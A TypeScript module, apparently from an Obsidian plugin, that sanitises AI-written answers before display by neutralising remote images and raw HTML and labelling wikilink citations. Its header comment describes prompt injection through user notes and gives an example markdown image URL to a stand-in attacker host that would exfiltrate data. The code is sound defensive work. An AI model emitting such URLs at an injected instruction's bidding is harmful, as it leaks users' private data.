/**
 * Answers as the pane shows them: citations, the Sources list, and no remote images.
 *
 * An answer quotes the user's notes, and a note can hide an instruction to build an image URL
 * that carries data out (`![](https://evil.example/?q=secret)`). Loading it would send that
 * data. The sidecar already drops such images (`done.removed_images`); the pane checks again:
 * `neutraliseRemoteMedia` before rendering (remote markdown images become text, raw HTML is shown
 * as text), `sweepRemoteMedia` after (any element that would still load a remote URL is removed).
 *
 * Citations are Obsidian wikilinks, `[[path/Note#Heading]]` (or `[[paper.pdf#page=3]]`); the
 * renderer turns them into `a.internal-link` elements whose `data-href` is the link text,
 * subpath included, ready for `openLinkText`. The links are always the sidecar's own (in
 * `done.answer`, its Sources list included): the pane never rebuilds one. No `obsidian` import.
 */
export interface Neutralised {
	markdown: string;
	/** What was neutralised: image URLs and HTML tags, for a "not loaded" note. */
	removed: string[];
}

/** A URL that would make the renderer fetch from the network ("https://", "//", "ftp://"...). */
export function isRemoteUrl(url: string): boolean {
	const trimmed = url.trim().replace(/^</, "").trim();
	return /^(?:[a-z][a-z0-9+.-]*:)?\/\//i.test(trimmed) && !/^app:/i.test(trimmed);
}

const IMAGE = /!\[((?:[^[\]\n]|\[[^[\]\n]*\])*)\]\(((?:[^()\n]|\([^()\n]*\))*)\)/g;
const EMBED = /!\[\[([^[\]\n]+)\]\]/g;
const REF_IMAGE = /!\[([^[\]\n]*)\](?:\[([^[\]\n]*)\])?/g;
const REF_DEFINITION = /^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*(\S+)/gm;
const AUTOLINK = /^<[a-z][a-z0-9+.-]{1,31}:[^\s<>]*>/i;
const TAG_START = /<(?=[a-z!/?])/gi;

/**
 * `markdown` with nothing left that would load a remote resource when rendered. Code blocks and
 * code spans are left as they are (they render as text anyway).
 */
export function neutraliseRemoteMedia(markdown: string): Neutralised {
	const removed: string[] = [];
	const remoteRefs = new Set<string>();
	for (const match of markdown.matchAll(REF_DEFINITION)) {
		if (isRemoteUrl(match[2] ?? "")) remoteRefs.add(normaliseLabel(match[1] ?? ""));
	}
	const prose = (text: string): string => {
		let out = text.replace(IMAGE, (whole: string, alt: string, destination: string) => {
			const url = destination.trim().replace(/^<([^>]*)>.*$/, "$1").split(/\s+/)[0] ?? "";
			if (!isRemoteUrl(url)) return whole;
			removed.push(url);
			return imagePlaceholder(alt);
		});
		out = out.replace(EMBED, (whole: string, inner: string) => {
			if (!isRemoteUrl(inner)) return whole;
			removed.push(inner);
			return imagePlaceholder("");
		});
		if (remoteRefs.size > 0) {
			out = out.replace(REF_IMAGE, (whole: string, alt: string, label?: string) => {
				const ref = normaliseLabel(label ? label : alt);
				if (!remoteRefs.has(ref)) return whole;
				removed.push(`[${ref}]`);
				return imagePlaceholder(alt);
			});
		}
		return escapeHtml(out, removed);
	};
	return { markdown: mapProse(markdown, prose), removed };
}

/** Raw HTML tags become text (`&lt;img ...>`); autolinks (`<https://...>`) stay links. */
function escapeHtml(text: string, removed: string[]): string {
	return text.replace(TAG_START, (lt: string, offset: number) => {
		if (AUTOLINK.test(text.slice(offset))) return lt;
		const tag = /^<[^>\n]*>?/.exec(text.slice(offset))?.[0] ?? "<";
		removed.push(tag);
		return "&lt;";
	});
}

function imagePlaceholder(alt: string): string {
	const text = alt.replace(/[[\]*_`\\<>]/g, "").trim();
	return text ? `*(remote image not loaded: ${text})*` : "*(remote image not loaded)*";
}

function normaliseLabel(label: string): string {
	return label.trim().replace(/\s+/g, " ").toLowerCase();
}

/**
 * Apply `transform` to the prose of `markdown`, leaving fenced code blocks and inline code
 * spans untouched.
 */
export function mapProse(markdown: string, transform: (prose: string) => string): string {
	const out: string[] = [];
	const lines = markdown.split("\n");
	let prose: string[] = [];
	const flush = () => {
		if (prose.length > 0) out.push(mapInlineProse(prose.join("\n"), transform));
		prose = [];
	};
	for (let i = 0; i < lines.length; i++) {
		const line = lines[i] ?? "";
		const fence = /^[ \t]{0,3}(`{3,}|~{3,})/.exec(line);
		if (!fence) {
			prose.push(line);
			continue;
		}
		flush();
		const marker = fence[1] ?? "```";
		const block = [line];
		let j = i + 1;
		for (; j < lines.length; j++) {
			const inner = lines[j] ?? "";
			block.push(inner);
			const close = /^[ \t]{0,3}(`{3,}|~{3,})[ \t]*$/.exec(inner);
			if (close && close[1]?.[0] === marker[0] && (close[1]?.length ?? 0) >= marker.length) break;
		}
		out.push(block.join("\n"));
		i = j;
	}
	flush();
	return out.join("\n");
}

/** Code spans: a run of N backticks up to the next run of exactly N. */
function mapInlineProse(text: string, transform: (prose: string) => string): string {
	let out = "";
	let rest = text;
	for (;;) {
		const open = /`+/.exec(rest);
		if (!open) return out + transform(rest);
		const ticks = open[0];
		const after = rest.slice(open.index + ticks.length);
		const close = new RegExp(`(?<!\`)${ticks}(?!\`)`).exec(after);
		if (!close) {
			// An unmatched run is literal text; keep scanning after it.
			out += transform(rest.slice(0, open.index)) + ticks;
			rest = after;
			continue;
		}
		out += transform(rest.slice(0, open.index));
		out += rest.slice(open.index, open.index + ticks.length + close.index + ticks.length);
		rest = after.slice(close.index + ticks.length);
	}
}

/** Attributes through which an element loads a URL. */
const URL_ATTRIBUTES = ["src", "srcset", "href", "data", "poster", "background", "xlink:href"];
const LOADING_ELEMENTS = "img, picture, source, video, audio, track, iframe, embed, object, image, link";

/**
 * After rendering: remove every element under `root` that would load a remote URL (images,
 * media, frames), and inline styles that reference one. Returns what was removed.
 */
export function sweepRemoteMedia(root: HTMLElement): string[] {
	const removed: string[] = [];
	for (const element of Array.from(root.querySelectorAll(LOADING_ELEMENTS))) {
		const remote = URL_ATTRIBUTES.map((name) => element.getAttribute(name) ?? "").find((value) =>
			value.split(",").some((candidate) => isRemoteUrl(candidate.trim())),
		);
		if (remote === undefined) continue;
		removed.push(remote);
		const alt = element.getAttribute("alt") ?? "";
		element.replaceWith(
			element.ownerDocument.createTextNode(alt ? `(remote image not loaded: ${alt})` : ""),
		);
	}
	for (const element of Array.from(root.querySelectorAll("[style]"))) {
		const style = element.getAttribute("style") ?? "";
		if (/url\s*\(/i.test(style)) {
			removed.push(style);
			element.removeAttribute("style");
		}
	}
	return removed;
}

/** The link text a rendered internal link opens ("Note#Heading", "paper.pdf#page=3"). */
export function linktextOf(element: Element): string | null {
	const link = element.closest("a.internal-link");
	if (!link) return null;
	const linktext = link.getAttribute("data-href") ?? link.getAttribute("href");
	return linktext ? linktext : null;
}

/**
 * How the Sources list labels a link the sidecar wrote: the note's name and the section,
 * "Recipes/Sourdough Starter#Feeding" -> "Sourdough Starter › Feeding",
 * "papers/baking.pdf#page=3" -> "baking.pdf › Page 3". Only the label: the link stays the sidecar's.
 */
export function linkLabel(linktext: string): string {
	const hash = linktext.indexOf("#");
	const target = hash === -1 ? linktext : linktext.slice(0, hash);
	const subpath = hash === -1 ? "" : linktext.slice(hash + 1);
	const name = (target.split("/").pop() ?? target).replace(/\.md$/i, "");
	const page = /^page=(\d+)$/i.exec(subpath);
	const section = page ? `Page ${page[1]}` : subpath.split("#").pop() ?? "";
	return section && section !== name ? `${name} › ${section}` : name;
}

/**
 * Split off the answer's closing "Sources:" list (the sidecar appends one, one item per entry
 * of `done.sources`), so the pane can show it in a box of its own: `sources` is the list's items,
 * without the heading. Only a list that ends the answer, with nothing but list items after the
 * heading, is split off.
 */
export function splitSources(markdown: string): { body: string; sources: string } {
	const lines = markdown.replace(/\s+$/, "").split("\n");
	for (let i = lines.length - 1; i >= 0; i--) {
		const line = lines[i] ?? "";
		if (/^\s*(?:#{1,6}\s*)?(?:\*\*|__)?\s*sources\s*:?\s*(?:\*\*|__)?\s*:?\s*$/i.test(line)) {
			const rest = lines.slice(i + 1).filter((l) => l.trim() !== "");
			if (rest.length === 0 || !rest.every((l) => /^\s*(?:[-*+]|\d+[.)])\s+/.test(l))) break;
			return {
				body: lines.slice(0, i).join("\n").replace(/\s+$/, ""),
				sources: rest.join("\n"),
			};
		}
		if (line.trim() !== "" && !/^\s*(?:[-*+]|\d+[.)])\s+/.test(line)) break;
	}
	return { body: markdown, sources: "" };
}
